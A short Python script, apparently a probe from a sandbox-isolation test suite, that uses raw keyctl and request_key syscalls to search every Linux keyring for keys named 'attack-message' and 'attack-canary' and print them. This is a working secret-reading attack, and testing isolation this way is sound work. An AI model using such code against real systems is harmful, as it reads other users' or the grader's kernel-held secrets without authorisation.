# tries: secret
# about: reads a friend's message and the grader's own keys in all keyrings
# then: secret

import ctypes, platform

libc, x86 = ctypes.CDLL(None), platform.machine() == "x86_64"
keyctl = 250 if x86 else 219
for keyring in (-1, -2, -3, -4, -5):
    for name in (b"attack-message", b"attack-canary"):
        key = libc.syscall(keyctl, 10, keyring, b"user", name, 0)
        if key <= 0:
            key = libc.syscall(249 if x86 else 218, b"user", name, None, 0)
        if key > 0:
            text = ctypes.create_string_buffer(100)
            libc.syscall(keyctl, 11, key, text, 100)
            print(text.value.decode())
